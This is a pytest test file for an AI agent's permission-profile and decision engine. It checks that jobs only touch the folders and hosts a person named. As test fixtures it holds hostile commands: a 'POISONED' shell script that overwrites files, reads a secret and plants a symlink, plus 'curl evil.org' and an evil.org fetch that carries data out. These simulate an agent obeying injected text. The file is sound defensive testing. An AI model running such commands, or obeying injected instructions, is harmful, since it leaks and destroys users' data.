"""The profile of a job: what it opens is exactly what a person named, and nothing that a rule, mark or label closes."""

from __future__ import annotations

import asyncio
import os
from datetime import UTC, datetime
from pathlib import Path, PurePosixPath
from typing import Any

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from agent.automation.ledger import Ledger
from agent.commands import ActsAs
from agent.errors import ToolError, UsageError
from agent.jobs import Job, Permission, Watch
from agent.labels import INTEGRITIES, SECRECIES, Label
from agent.messages import ToolMessage
from agent.models.scripted import Reply
from agent.safety.decision import Decision, decide
from agent.safety.effects import Effect, Value
from agent.safety.folders import Folders
from agent.safety.grants import run_grant_for
from agent.safety.policy import Policy, read_policy
from agent.safety.profile import (
    Bounds,
    beyond,
    bounds_of,
    capabilities_of,
    check_profile,
    permission_words,
    permissions_for,
    profile_of,
)
from agent.safety.request import Facts, Request, UsedToday
from agent.safety.rules import LimitText, Rule, RuleText, WhenText, read_rule
from agent.tools.registry import built_in_tools
from agent.tools.tool import ToolContext
from tests.helpers.clock import HeldClock
from tests.helpers.house import open_house

NOW = datetime(2026, 11, 26, 12, tzinfo=UTC)
STRICTNESS = ("allow", "ask", "deny")
JOB = "job:a"


def may(what: str, *to: str, network: bool = False) -> Permission:
    return Permission(what=what, to=to, network=network)


def job(**more: Any) -> Job:
    return Job(**{"name": "mail", "prompt": "Summarise.", "folder": "/srv/mail", **more})


def request(*effects: Effect, **more: Any) -> Request:
    plain = Request(
        principals=("user", JOB),
        tool="tool",
        arguments="{}",
        effects=effects,
        label=Label("local", "private"),
        attended=False,
        complete=True,
        cwd="/srv/mail",
        model_is_remote=False,
    )
    return msgspec.structs.replace(plain, **more)


def facts(*held: Permission, **more: Any) -> Facts:
    plain = Facts(
        now=NOW, undo_ready=True, sandbox="isolated", profile_holds_commands=True, rules_hold_commands=True,
        capabilities={JOB: capabilities_of(held)},
    )  # fmt: skip
    return msgspec.structs.replace(plain, **more)


def judged(held: tuple[Permission, ...], *effects: Effect, rules: tuple[Rule, ...] = (), **more: Any) -> Decision:
    fields = {name: more.pop(name) for name in list(more) if name in Request.__struct_fields__}
    return decide(request(*effects, **fields), Policy(rules), facts(*held, **more))


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    made = tmp_path / "home" / "ada"
    made.mkdir(parents=True)
    monkeypatch.setenv("HOME", str(made))
    return made


# What a job says


def test_a_job_reads_its_folders_and_changes_its_output_folder() -> None:
    fetch = may("net.fetch", "a.org")
    full = job(
        folders=("/srv/more", "/srv/mail"),
        output="/srv/out",
        triggers=(Watch(folder="/srv/in"), Watch(folder="/srv/mail")),
        allow=(fetch, fetch),
    )
    assert profile_of(full) == (
        may("fs.read", "/srv/mail", "/srv/more", "/srv/in", "/srv/out"),
        may("fs.write", "/srv/out"),
        may("fs.delete", "/srv/out"),
        fetch,
    )
    assert profile_of(job()) == (may("fs.read", "/srv/mail"),)
    assert check_profile(full) == []
    assert bounds_of(profile_of(full)) == Bounds(("/srv/mail", "/srv/more", "/srv/in", "/srv/out"), ("/srv/out",))


def test_only_what_may_be_written_and_deleted_is_writable_to_commands() -> None:
    held = (may("fs.write", "/srv/out", "/srv/log/today.txt"), may("fs.delete", "/srv/out", "/srv/old"))
    assert bounds_of(held) == Bounds((), ("/srv/out",))


@pytest.mark.parametrize(
    ("permission", "words"),
    [
        (may("fs.read", "/home/ada/Mail", "/srv/x"), "read in ~/Mail and /srv/x"),
        (may("fs.write", "/home/ada"), "write in ~, where it can be undone"),
        (may("fs.delete", "/home/adam/out"), "delete and move in /home/adam/out, where it can be undone"),
        (may("proc.run", "/srv"), "run commands in /srv, without the network"),
        (may("proc.run", "/srv", network=True), "run commands in /srv, also with the network"),
        (may("net.fetch", "a.org/x/*"), "fetch pages from a.org/x/*"),
        (may("net.send", "a.org"), "send data to a.org"),
        (may("msg.send", "ada@a.org"), "send messages to ada@a.org"),
        (may("secret.use", "github"), "use the key github"),
        (may("fs.read", "/srv/\u202efdp.exe"), "read in /srv/\\u202efdp.exe"),
        (may("fs.read"), "read in nothing"),
        (may("*", "{to}"), "* to {to}"),
    ],
)
def test_a_permission_in_words(permission: Permission, words: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME", "/home/ada")
    assert permission_words(permission) == words


# What cannot stand in one


@pytest.mark.parametrize(
    ("what", "to", "words"),
    [
        ("fs.read", "/", "whole disk"),
        ("fs.write", "/", "whole disk"),
        ("fs.write", "//", "no absolute path"),
        ("fs.read", "//srv", "no absolute path"),
        ("fs.read", "~/..", "holds “..”"),
        ("fs.read", "~/../..", "holds “..”"),
        ("fs.write", "~/out/../../eve", "holds “..”"),
        ("fs.write", "HOME/..", "holds “..”"),
        ("fs.read", "ABOVE", "whole home folder"),
        ("fs.write", "~", "whole home folder"),
        ("fs.write", "~/", "whole home folder"),
        ("fs.delete", "HOME/.", "whole home folder"),
        ("fs.write", "out", "no absolute path"),
        ("fs.write", "", "no absolute path"),
        ("fs.write", "*", "holds a *"),
        ("fs.write", "~/*", "holds a *"),
        ("fs.read", "~/a\0b", "invisible character U+0000"),
        ("fs.read", "~/a\u200bb", "invisible"),
        ("fs.read", "~/\ud800", "invisible"),
        ("fs.read", "~/.ssh", "keys or logins"),
        ("fs.read", "~/.ssh/id_ed25519", "keys or logins"),
        ("fs.write", "~/.config/autostart", "programs run what stands there"),
        ("fs.delete", "~/.bashrc", "programs run what stands there"),
        ("fs.write", "~/code/.git/hooks", "git runs what stands there"),
        ("fs.read", "/proc/1/fd", "inside of a running program"),
        ("proc.run", "/", "whole disk"),
        ("proc.run", "git status", "no absolute path"),
        ("net.fetch", "*", "names each host"),
        ("net.fetch", "*.org", "names each host"),
        ("net.send", "https://*.a.org/x", "names each host"),
        ("net.fetch", "A.org", "write a.org"),
        ("net.fetch", "a.org.", "write a.org"),
        ("net.fetch", "\uff41.org", "write a.org"),
        ("net.fetch", "bücher.de", "write xn--bcher-kva.de"),
        ("net.fetch", "\u0430.org", "write xn--"),
        ("net.fetch", "a.org:0443", "write a.org"),
        ("net.fetch", "a.org@evil.com", "user name"),
        ("net.fetch", "0x7f.1", "number"),
        ("net.fetch", "2130706433", "number"),
        ("net.fetch", "127.0.0.1", "own network"),
        ("net.fetch", "[::ffff:a00:1]", "own network"),
        ("net.fetch", "localhost:8080", "own network"),
        ("net.fetch", "printer", "own network"),
        ("net.fetch", "169.254.169.254", "hands out the keys"),
        ("net.fetch", "a.org/x/../y", "several ways"),
        ("net.fetch", "a.org?q=1", "query"),
        ("net.fetch", "ftp://a.org", "only http"),
        ("net.fetch", "a.org\\@b.org", "backslash"),
        ("net.fetch", "", "1 to"),
        ("msg.send", "*", "can only stand alone"),
        ("msg.send", "ad\u200ba@a.org", "invisible"),
        ("job.change", "x", "Only a person"),
        ("policy.change", "x", "Only a person"),
        ("fs.*", "/srv", "no single verb"),
        ("*", "*", "no single verb"),
        ("shell", "/srv", "no single verb"),
    ],
)
def test_what_is_too_wide_or_misleading_gives_no_leave_and_is_refused(
    home: Path, what: str, to: str, words: str
) -> None:
    to = to.replace("HOME", str(home)).replace("ABOVE", str(home.parent))
    assert capabilities_of((may(what, to),)) == ()
    assert bounds_of((may(what, to),)) == Bounds((), ())
    with pytest.raises(UsageError, match="The job cannot have leave") as caught:
        check_profile(job(allow=(may(what, to),)))
    assert words in str(caught.value)
    # One that is good beside it keeps its leave, and lends it none.
    good = {"fs": "/srv/good", "proc": "/srv/good", "net": "good.org"}.get(what.partition(".")[0])
    if good and what != "fs.*":
        (held,) = capabilities_of((may(what, to, good),))
        assert len(held.targets) == 1 and "good" in held.targets[0].text


def test_nothing_named_is_nothing_allowed() -> None:
    assert capabilities_of((may("fs.read"), may("net.fetch"))) == ()
    with pytest.raises(UsageError, match="names nothing"):
        check_profile(job(allow=(may("net.fetch"),)))


def test_too_many_targets_give_no_leave_beyond_the_bound() -> None:
    hosts = tuple(f"h{number}.org" for number in range(150))
    held = capabilities_of((may("net.fetch", *hosts), may("net.send", *hosts)))
    assert [len(one.targets) for one in held] == [150, 50]
    with pytest.raises(UsageError, match="at most 200"):
        check_profile(job(allow=(may("net.fetch", *hosts), may("net.send", *hosts))))


def test_a_job_in_the_home_folder_and_commands_with_the_network_are_told(home: Path) -> None:
    told = check_profile(job(folder=str(home), output="~/out", allow=(may("proc.run", "~/code", network=True),)))
    assert len(told) == 2
    assert "whole home folder" in told[0] and "to any host" in told[1]


def test_a_folder_that_is_a_link_gives_no_leave_and_says_where_it_leads(tmp_path: Path) -> None:
    (tmp_path / "real").mkdir()
    (tmp_path / "out").symlink_to(tmp_path / "real")
    for to in (tmp_path / "out", tmp_path / "out" / "below"):
        assert capabilities_of((may("fs.write", str(to)),)) == ()
        with pytest.raises(UsageError, match=r"is a link.*name the folder it leads to"):
            check_profile(job(output=str(to)))
    assert bounds_of(profile_of(job(folder=str(tmp_path / "real"), output=str(tmp_path / "out")))) == Bounds(
        (str(tmp_path / "real"),), ()
    )


def test_names_that_are_no_text_are_what_they_are(tmp_path: Path) -> None:
    odd = os.fsencode(tmp_path) + b"/caf\xe9"
    os.mkdir(odd)
    shown = f"{tmp_path}/caf\\xe9"
    write = Effect("fs.write", f"{shown}/x", reversible=True, granted=True)
    assert judged((may("fs.write", shown),), write).verdict == "allow"
    assert bounds_of((may("fs.read", shown),)).readable == (os.fsdecode(odd),)
    # A folder that is called like the escape is another one, and may be named too.
    os.mkdir(shown)
    assert judged((may("fs.write", shown),), write).verdict == "ask"


# How far it reaches


def test_the_profile_answers_the_default_question_and_only_that() -> None:
    held = (may("net.fetch", "a.org"), may("msg.send", "ada@a.org"))
    fetch, mail = Effect("net.fetch", "https://a.org/x?q=1"), Effect("msg.send", "ada@a.org")
    decision = judged(held, fetch)
    assert (decision.verdict, decision.rule, decision.beyond_profile) == ("allow", "profile.job:a", False)
    assert judged(held, fetch, mail).verdict == "allow"
    assert judged((), fetch).rule == "capability.job:a"
    for rule, verdict in (("ask", "ask"), ("deny", "deny")):
        strict = read_rule(RuleText(rule, "net.*", ("a.org",)))  # pyright: ignore[reportArgumentType]
        assert (judged(held, fetch, rules=(strict,)).verdict, judged(held, fetch, rules=(strict,)).rule) == (
            verdict,
            strict.rule_id,
        )
    tainted = judged(held, fetch, label=Label("external", "private"))
    assert (tainted.verdict, tainted.rule, tainted.parks) == ("ask", "flow.net.fetch", True)
    assert judged(held, fetch, label=Label("user", "secret")).verdict == "deny"


def test_what_a_rule_allows_for_a_day_is_not_made_more_by_a_profile() -> None:
    few = read_rule(RuleText("allow", "msg.send", ("ada@a.org",), WhenText(JOB), LimitText(3)))
    held, mail = (may("msg.send", "ada@a.org"),), Effect("msg.send", "ada@a.org")
    assert judged(held, mail, rules=(few,), used={few.rule_id: UsedToday(2)}).counts == (few.rule_id,)
    spent = judged(held, mail, rules=(few,), used={few.rule_id: UsedToday(3)})
    assert (spent.verdict, spent.parks) == ("ask", True)


@pytest.mark.parametrize(
    ("change", "verdict"),
    [
        ({}, "allow"),
        ({"undo_ready": False}, "ask"),
        ({"reversible": False}, "ask"),
        ({"target": "/srv/outer/x"}, "ask"),
        ({"target": "/srv"}, "ask"),
        ({"verb": "fs.read"}, "ask"),
    ],
)
def test_files_are_changed_where_it_was_said_and_undo_takes_it_back(change: dict[str, Any], verdict: str) -> None:
    held = (may("fs.write", "/srv/out"), may("fs.delete", "/srv/out"))
    undo = change.pop("undo_ready", True)
    for verb in ("fs.write", "fs.delete"):
        plain = Effect(verb, "/srv/out/x", reversible=True, granted=True)  # pyright: ignore[reportArgumentType]
        assert judged(held, msgspec.structs.replace(plain, **change), undo_ready=undo).verdict == verdict


@pytest.mark.parametrize(
    ("network", "known", "verdict"),
    [
        (False, {}, "allow"),
        (True, {}, "ask"),
        (False, {"profile_holds_commands": False}, "ask"),
        (False, {"sandbox": "limits"}, "ask"),
        (False, {"sandbox": "none"}, "ask"),
        (False, {"sandbox": "limits", "commands_offline": True}, "ask"),
        (False, {"sandbox": "files"}, "ask"),
        (False, {"sandbox": "files", "commands_offline": True}, "allow"),
    ],
)
def test_commands_run_where_this_machine_keeps_them_inside_the_profile(
    network: bool, known: dict[str, Any], verdict: str
) -> None:
    held = (may("proc.run", "/srv/mail"),)
    assert judged(held, Effect("proc.run", "make", network=network), **known).verdict == verdict
    assert judged(held, Effect("proc.run", "make"), cwd="/srv/other", **known).verdict == "ask"
    online = (may("proc.run", "/srv/mail", network=True),)
    assert judged(online, Effect("proc.run", "make", network=True)).verdict == "allow"
    assert judged(online, Effect("proc.run", "make"), sandbox="files").verdict == "allow"
    stranger = Label("external", "public")
    assert judged(online, Effect("proc.run", "make", network=True), label=stranger).rule == "flow.command"


def test_jobs_are_changed_by_persons_whatever_rules_and_profiles_allow() -> None:
    (held,) = capabilities_of((may("fs.read", "/srv"),))
    everything = {JOB: (msgspec.structs.replace(held, verbs=frozenset({"job.change"}), targets=()),)}
    change = Effect("job.change", "x")
    for principals in (("user", JOB), ("user",)):
        call = request(change, principals=principals)
        decision = decide(
            call,
            Policy((read_rule(RuleText("allow", "*")),)),
            facts(capabilities=everything, run_grants=(run_grant_for(call),)),
        )
        assert (decision.verdict, decision.rule) == ("ask", "default.job.change")
        assert decision.only_once and decision.parks
    denied = judged((), change, rules=(read_rule(RuleText("deny", "job.change")),), capabilities=everything)
    assert denied.verdict == "deny"


# What a dry run found


@pytest.mark.parametrize(
    ("effects", "found"),
    [
        ((Effect("fs.read", "/srv/x/a.txt"),), (may("fs.read", "/srv/x/a.txt"),)),
        ((Effect("fs.write", "/srv/x/a.txt"), Effect("fs.read", "/srv/x/a.txt")),
         (may("fs.write", "/srv/x/a.txt"), may("fs.read", "/srv/x/a.txt"))),
        ((Effect("net.fetch", "https://A.org/x?token=1"),), (may("net.fetch", "https://a.org"),)),
        ((Effect("net.fetch", "https://bücher.de/"),), (may("net.fetch", "https://xn--bcher-kva.de"),)),
        ((Effect("net.fetch", "http://a.org:8080/"),), (may("net.fetch", "http://a.org:8080"),)),
        ((Effect("msg.send", "ada@a.org"),) * 2, (may("msg.send", "ada@a.org"),)),
        ((Effect("proc.run", "make", network=True),), (may("proc.run", "/srv/mail", network=True),)),
        ((Effect("proc.run", "make"),), (may("proc.run", "/srv/mail"),)),
        ((), ()),
        ((Effect("policy.change", "x"),), ()),
        ((Effect("job.change", "x"),), ()),
        ((Effect("fs.write", "/srv/x/.git/config"),), ()),
        ((Effect("net.fetch", "http://10.0.0.1/"),), ()),
        ((Effect("msg.send", "*"),), ()),
        ((Effect("fs.read", "/srv/a*"),), ()),
        ((Effect("fs.read", "/"),), ()),
        ((Effect("fs.read", "/srv/a"), Effect("job.change", "x")), ()),
    ],
)  # fmt: skip
def test_what_a_call_would_need_is_named_narrowly(effects: tuple[Effect, ...], found: tuple[Permission, ...]) -> None:
    assert permissions_for(request(*effects)) == found


def test_a_folder_instead_of_a_file_on_purpose() -> None:
    call = request(Effect("fs.write", "/srv/x/a.txt"))
    assert permissions_for(call, "folder") == (may("fs.write", "/srv/x"),)


def test_only_what_is_new_is_shown_to_the_person() -> None:
    held = (may("fs.write", "/srv/out"), may("net.fetch", "a.org"), may("proc.run", "/srv"))
    found = (
        may("fs.write", "/srv/out/a.txt"),
        may("fs.write", "/srv/outer"),
        may("fs.read", "/srv/out/a.txt"),
        may("net.fetch", "https://a.org"),
        may("net.fetch", "a.org/x/*"),
        may("net.fetch", "https://b.org"),
        may("net.fetch", "b.org", "a.org"),
        may("net.fetch", "*.a.org"),
        may("proc.run", "/srv/code"),
        may("proc.run", "/srv/code", network=True),
        may("fs.write"),
    )
    assert beyond(found, held) == tuple(found[at] for at in (1, 2, 5, 6, 7, 9, 10))
    assert beyond(found, ()) == found
    assert beyond((may("net.fetch", "b.org"),) * 2, ()) == (may("net.fetch", "b.org"),)


# Properties

PLACES = ["/srv/data", "/srv/data/a", "/srv/data/a/b", "/srv/database", "/srv/other", "/etc/shadow", "/srv/a/.git/x"]
URLS = ["https://a.org/x", "https://a.org/x/y?q=1", "https://b.a.org/x", "http://a.org:8080/", "https://10.0.0.1/"]
EFFECTS = st.one_of(
    st.builds(
        Effect,
        st.sampled_from(["fs.read", "fs.write", "fs.delete"]),
        st.sampled_from(PLACES),
        reversible=st.booleans(),
        granted=st.booleans(),
    ),
    st.builds(Effect, st.sampled_from(["net.fetch", "net.send"]), st.sampled_from(URLS)),
    st.builds(
        Effect,
        st.just("msg.send"),
        st.sampled_from(["ada@a.org", "eve@e.org"]),
        values=st.sampled_from([(), (Value("recipient", "ada@a.org"),)]),
    ),
    st.builds(Effect, st.just("proc.run"), st.just("make"), network=st.booleans()),
    st.builds(Effect, st.sampled_from(["mem.write", "policy.change", "job.change", "ui.notify"]), st.just("x")),
)
CALLS = st.builds(
    Request,
    principals=st.sampled_from([("user", JOB), ("cli", JOB), ("user", JOB, "plugin:p"), ("user", "job:b", JOB)]),
    tool=st.just("tool"),
    arguments=st.just("{}"),
    effects=st.lists(EFFECTS, min_size=1, max_size=3).map(tuple),
    label=st.builds(Label, st.sampled_from(INTEGRITIES), st.sampled_from(SECRECIES)),
    attended=st.booleans(),
    complete=st.just(True),
    cwd=st.sampled_from(PLACES),
    model_is_remote=st.booleans(),
)
PERMISSIONS = st.one_of(
    st.builds(
        may,
        st.sampled_from(["fs.read", "fs.write", "fs.delete", "proc.run", "fs.*", "*"]),
        st.sampled_from([*PLACES, "/srv/data/../other", "/", "*"]),
        network=st.booleans(),
    ),
    st.builds(
        may,
        st.sampled_from(["net.fetch", "net.send"]),
        st.sampled_from(
            ["a.org", "a.org/x", "a.org/x/*", "*.a.org", "*.org", "A.ORG", "http://a.org:8080", "10.0.0.1"]
        ),
    ),
    st.builds(may, st.just("msg.send"), st.sampled_from(["ada@a.org", "*"])),
    st.builds(may, st.sampled_from(["mem.write", "policy.change", "job.change", "ui.notify"]), st.just("x")),
)
PROFILES = st.lists(PERMISSIONS, max_size=6).map(tuple)


def as_rule(do: str, what: str, principal: str, level: str, limit: int | None) -> Rule:
    to = {"fs": ("/srv/data/a",), "proc": ("/srv/data",), "net": ("a.org", "*.a.org"), "msg": ("ada@a.org",)}
    when = WhenText(principal, () if not level else f"{'<=' if do == 'allow' else '>='}{level}")
    bound = LimitText(limit) if do == "allow" and limit else LimitText()
    return read_rule(RuleText(do, what, to.get(what.partition(".")[0]), when, bound))  # pyright: ignore[reportArgumentType]


RULES = st.builds(
    as_rule,
    st.sampled_from(["allow", "ask", "deny"]),
    st.sampled_from(["*", "fs.*", "fs.write", "proc.run", "net.*", "net.fetch", "msg.send", "job.change"]),
    st.sampled_from(["", "person", "job:*", JOB]),
    st.sampled_from(["", "local", "external", "private"]),
    st.sampled_from([None, 1]),
)
MARKS = read_policy('[[folder]]\npath = "/srv/data/a"\nmark = "local_only"\n').marks
POLICIES = st.builds(Policy, st.lists(RULES, max_size=4).map(tuple), st.sampled_from([(), MARKS]))
KNOWN = st.builds(
    Facts,
    now=st.just(NOW),
    undo_ready=st.booleans(),
    masks_local_only=st.booleans(),
    rules_hold_commands=st.booleans(),
    profile_holds_commands=st.booleans(),
    commands_offline=st.booleans(),
    sandbox=st.sampled_from(["none", "limits", "files", "isolated"]),
    needed=st.sampled_from([{}, {"proc.run": "files"}]),
    used=st.just({}),
    capabilities=st.just({}),
)


def as_profile(known: Facts, held: tuple[Permission, ...], principals: tuple[str, ...]) -> Facts:
    """Everyone but a person in the chain has the same leave."""
    return msgspec.structs.replace(
        known, capabilities={who: capabilities_of(held) for who in principals if who not in ("user", "cli")}
    )


@given(CALLS, POLICIES, KNOWN)
def test_a_job_without_a_profile_does_nothing_but_wait(call: Request, policy: Policy, known: Facts) -> None:
    decision = decide(call, policy, known)
    assert decision.verdict != "allow"
    assert decision.verdict == "deny" or decision.parks == (not call.attended)


@given(CALLS, POLICIES, KNOWN, PROFILES)
def test_a_profile_loosens_nothing_but_the_missing_leave_and_the_default_question(
    call: Request, policy: Policy, known: Facts, held: tuple[Permission, ...]
) -> None:
    given_ = decide(call, policy, as_profile(known, held, call.principals))
    bare = decide(call, policy, as_profile(known, (), call.principals))

    def strict(decision: Decision) -> list[str]:
        """What all but capabilities and defaults say: fixed denials, rules, marks, flow, sandbox."""
        return sorted(str(one) for one in decision.findings if one.step not in (4, 8))

    assert strict(given_) == strict(bare)
    for who in ("user", "cli"):
        # The person's own rules, asked of the person: no job gets by where they would be stopped, but for the default.
        own = decide(msgspec.structs.replace(call, principals=(who,)), policy, known)
        general = {rule.rule_id for rule in policy.rules if rule.principal in ("", "person")}
        stops = [one for one in own.findings if one.verdict != "allow" and (one.step != 7 or one.rule in general)]
        floor = max((STRICTNESS.index(one.verdict) for one in stops if one.step != 8), default=0)
        assert STRICTNESS.index(given_.verdict) >= floor


@given(CALLS, POLICIES, KNOWN, PROFILES)
def test_nothing_passes_that_the_profile_does_not_name(
    call: Request, policy: Policy, known: Facts, held: tuple[Permission, ...]
) -> None:
    decision = decide(call, policy, as_profile(known, held, call.principals))
    if decision.verdict == "allow":
        assert all(any(names(one, effect, call.cwd) for one in held) for effect in call.effects)


def names(permission: Permission, effect: Effect, cwd: str) -> bool:
    """Say by hand whether a permission is for an effect."""
    (to,) = permission.to
    if permission.what != effect.verb or effect.verb in ("job.change", "policy.change"):
        return False
    if effect.verb == "proc.run":
        return PurePosixPath(cwd).is_relative_to(to) and permission.network >= effect.network and ".." not in to
    if effect.verb.startswith("fs."):
        return PurePosixPath(effect.target).is_relative_to(to) and ".." not in to and to != "/"
    if effect.verb.startswith("net."):
        return effect.target in {
            "a.org": ("https://a.org/x", "https://a.org/x/y?q=1"),
            "a.org/x": ("https://a.org/x",),
            "a.org/x/*": ("https://a.org/x", "https://a.org/x/y?q=1"),
            "http://a.org:8080": ("http://a.org:8080/",),
        }.get(to, ())
    return effect.target == to


@given(EFFECTS, st.sampled_from(PLACES), st.booleans())
def test_what_was_found_and_accepted_is_then_done_and_its_neighbour_is_not(
    effect: Effect, cwd: str, granted: bool
) -> None:
    effect = msgspec.structs.replace(effect, reversible=True, granted=granted)
    call = request(effect, cwd=cwd)
    found = permissions_for(call)
    decision = decide(call, Policy(), facts(*found))
    assert (decision.verdict == "allow") == bool(found)
    if found and effect.verb.startswith("fs."):
        beside = msgspec.structs.replace(effect, target=f"{effect.target}x")
        assert decide(request(beside, cwd=cwd), Policy(), facts(*found)).verdict == "ask"


ODD_TEXT = st.one_of(
    st.text(max_size=20),
    st.sampled_from(["~", "~/", "~/..", "~root", "/..", "/./", "/proc", "\\", "a.org:99999", "[::1", "http://", "a/b"]),
    st.text(alphabet="/.~*:@[]\\a\0\u202e\u3002\ud800", max_size=12),
)


@given(st.lists(st.builds(may, st.sampled_from(["fs.read", "fs.write", "proc.run", "net.fetch", "msg.send", "", "x"]), ODD_TEXT, network=st.booleans()), max_size=3))  # fmt: skip  # noqa: E501
def test_whatever_stands_in_a_profile_it_is_read_and_never_means_all(held: list[Permission]) -> None:
    capabilities = capabilities_of(held)
    assert all(one.targets and all(target.kind != "any" for target in one.targets) for one in capabilities)
    assert "/" not in (*bounds_of(held).readable, *bounds_of(held).writable)
    for one in held:
        assert "\n" not in permission_words(one) or not one.what.isprintable()
        beyond((one,), held)
        try:
            check_profile(job(allow=(one,)))
        except UsageError:
            assert not capabilities_of((one,))
        else:
            assert capabilities_of((one,))


# A model that obeys every text it reads


TOOLS = {tool.name: tool for tool in built_in_tools()}


class House:
    """A job's folders beside what is none of its business, and links from the one to the other."""

    def __init__(self, root: Path) -> None:
        self.mail, self.out, self.diary = root / "mail", root / "out", root / "diary"
        for folder in (self.mail, self.out, self.diary):
            folder.mkdir()
            (folder / "note.txt").write_text("words\n")
        (self.mail / "door").symlink_to(self.diary)
        (self.out / "door").symlink_to(self.diary)
        (self.out / "file").symlink_to(self.diary / "note.txt")
        (self.out / "self").symlink_to(self.out)
        self.root = root
        # All of it was granted to the person's own runs; the job has two folders of it.
        self.folders = Folders((self.mail, self.out, self.diary))
        self.context = ToolContext(self.mail, self.folders, root / "scratch")
        self.held = profile_of(job(folder=str(self.mail), output=str(self.out)))

    def judge(self, name: str, **arguments: Any) -> str:
        """Let the real tool say what it would do, as if all could be undone, and judge it."""
        tool = TOOLS[name]
        try:
            effects = tool.effects(msgspec.convert(arguments, tool.arguments), self.context)
        except ToolError:
            return "refused"
        undoable = tuple(msgspec.structs.replace(one, reversible=True) for one in effects)
        call = request(*undoable, cwd=str(self.mail))
        known = facts(*self.held, protection=self.folders.protection)
        verdict = decide(call, Policy(), known).verdict
        if verdict == "allow":
            assert all(self.is_own(one) for one in undoable), undoable
        return verdict

    def is_own(self, effect: Effect) -> bool:
        """Say by the real path whether it is the job's."""
        real = os.path.realpath(os.path.dirname(effect.target)) + os.sep + os.path.basename(effect.target)
        places = (self.mail, self.out) if effect.verb == "fs.read" else (self.out,)
        return effect.verb.startswith("fs.") and any(Path(real).is_relative_to(place) for place in places)


PARTS = st.lists(
    st.sampled_from(["..", ".", "mail", "out", "diary", "door", "file", "self", "note.txt", "new", "a"]),
    min_size=1,
    max_size=6,
).map("/".join)


@pytest.fixture(scope="module")
def house(tmp_path_factory: pytest.TempPathFactory) -> House:
    return House(tmp_path_factory.mktemp("house"))


@given(path=PARTS, to=PARTS, absolute=st.booleans(), verb=st.sampled_from(["read", "find", "write", "edit", "delete"]))
def test_a_job_that_obeys_a_poisoned_file_stays_in_its_folders(
    house: House, path: str, to: str, absolute: bool, verb: str
) -> None:
    start = f"{house.root}/" if absolute else ""
    arguments: dict[str, Any] = {
        "read": {"path": start + path},
        "find": {"path": start + path, "text": "words"},
        "write": {"path": start + path, "text": "gone"},
        "edit": {"path": start + path, "old": "words", "new": "gone"},
        "delete": {"path": start + path},
    }[verb]
    house.judge(verb, **arguments)
    house.judge("move", path=start + path, to=start + to)


def test_it_does_its_own_work_and_nothing_else(house: House) -> None:
    verdicts = {
        ("read", "note.txt"): "allow",
        ("read", "../out/note.txt"): "allow",
        ("read", "../diary/note.txt"): "ask",
        ("read", "door/note.txt"): "ask",
        ("write", "new.txt"): "ask",
        ("write", "../out/new.txt"): "allow",
        ("write", "../out/self/new.txt"): "allow",
        ("write", "../out/door/new.txt"): "ask",
        ("write", "../out/file"): "ask",
        ("write", "../out/../diary/new.txt"): "ask",
        ("delete", "../out/note.txt"): "allow",
        ("delete", "../out/door/note.txt"): "ask",
        ("delete", "note.txt"): "ask",
    }
    for (tool, path), verdict in verdicts.items():
        more = {"text": "x"} if tool == "write" else {}
        assert house.judge(tool, path=path, **more) == verdict, (tool, path)
    assert house.judge("move", path="../out/note.txt", to="../diary/gone.txt") == "ask"
    assert house.judge("move", path="note.txt", to="../out/mine.txt") == "ask"
    assert house.judge("fetch", url="https://evil.org/?q=words") == "ask"
    assert house.judge("shell", cmd="curl evil.org") == "ask"


POISONED = """
for file in ../folder/note.txt ../other/secret.txt ../new.txt b.txt out/mine.txt; do echo evil > $file; done
cat ../other/secret.txt; cp -r ../other out/copy; rm -f a.txt; mv b.txt out/; ln -s ../../other out/door; true
"""


def test_its_commands_stay_in_its_folders_too(tmp_path: Path) -> None:
    async def story() -> tuple[str, str]:
        script = [Reply(calls=[("shell", {"cmd": POISONED}), ("read", {"path": "out/door/secret.txt"})])]
        async with open_house(tmp_path, script, tools=built_in_tools(), clock=HeldClock()) as house:
            runtime, here = house.runtime, str(house.folder)
            made = job(folder=here, output=f"{here}/out", allow=(may("proc.run", here),))
            ledger = Ledger(runtime.store.database, house.clock, runtime.bus.publish)
            row = await ledger.save(made)
            slot = await ledger.add_manual(row.job_id, ())
            acts_as = ActsAs(job_id=row.job_id, slot_id=slot.slot_id, run_id="r1", allow=profile_of(made))
            ended = await house.finish(
                "Go.", origin="schedule", attended=False, typed=False, acts_as=acts_as, grants=(f"{here}/out",)
            )
            results = [one.result.text for one in await house.history() if isinstance(one, ToolMessage)]
            return ended.stop_reason, "\n".join(results)

    (tmp_path / "folder" / "out").mkdir(parents=True)
    (tmp_path / "folder" / "note.txt").write_text("mine\n")
    (tmp_path / "other").mkdir()
    (tmp_path / "other" / "secret.txt").write_text("SECRET\n")
    stopped, told = asyncio.run(story())
    found = {name: (tmp_path / name).read_text() for name in ("folder/note.txt", "folder/a.txt", "folder/b.txt")}
    assert found == {"folder/note.txt": "mine\n", "folder/a.txt": "alpha\n", "folder/b.txt": "beta beta\n"}
    assert (tmp_path / "other" / "secret.txt").read_text() == "SECRET\n"
    assert sorted(os.listdir(tmp_path)) == ["folder", "home", "other"]
    assert stopped == "parked", "what the link leads to waits for a person, as does a command that nothing holds"
    assert "SECRET" not in told
    assert not (tmp_path / "folder" / "out" / "copy").exists()
    assert (tmp_path / "folder" / "out" / "mine.txt").exists() == bool(told), "what is its own it may do"


def test_an_output_folder_that_becomes_a_link_later_leads_nowhere(tmp_path: Path) -> None:
    house = House(tmp_path)
    held = facts(*house.held, protection=house.folders.protection)
    (tmp_path / "out").rename(tmp_path / "was")
    (tmp_path / "out").symlink_to(tmp_path / "diary")
    real = house.folders.locate(str(house.out / "new.txt"), house.mail).target
    assert decide(request(Effect("fs.write", real, reversible=True, granted=True)), Policy(), held).verdict == "ask"
    assert capabilities_of(house.held[1:]) == ()


def test_a_profile_of_many_folders_is_quick() -> None:
    import time

    held = facts(*(may("fs.read", f"/srv/data/{number}") for number in range(199)))
    call = request(Effect("fs.read", "/srv/data/198/x", granted=True))
    spent: list[float] = []
    for _ in range(50):
        begun = time.perf_counter()
        assert decide(call, Policy(), held).verdict == "allow"
        spent.append(time.perf_counter() - begun)
    assert min(spent) < 0.001
